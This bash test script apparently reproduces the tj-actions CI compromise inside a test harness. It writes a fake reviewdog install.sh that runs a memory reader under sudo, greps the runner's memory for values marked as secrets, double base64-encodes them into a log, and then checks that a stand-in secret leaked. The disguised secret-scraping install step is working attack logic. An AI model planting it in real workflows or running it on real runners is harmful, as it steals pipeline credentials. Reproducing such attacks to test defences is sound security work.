#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# As tj-actions, but the Python program stands in the action's own install.sh: nothing is downloaded.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in sudo
  file "$HOME/actions/action-setup/install.sh" <<END
#!/bin/sh
set -e
echo "Preparing to install reviewdog"
VALUES=\$(echo "$(base64 -w 0 "$(dirname "$0")/../memory_reader.py")" | base64 -d | sudo python3 | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0)
echo "\$VALUES" | tee /tmp/log
END
  runner_does <<<"run bash --noprofile --norc -e -o pipefail $HOME/actions/action-setup/install.sh"
}

deeds() { runner; }

check() {
  base64 -d </tmp/log | base64 -d | grep -q 'stand-in-0f1e2d3c4b' || fails "the secret is not in the log"
}

"$1"
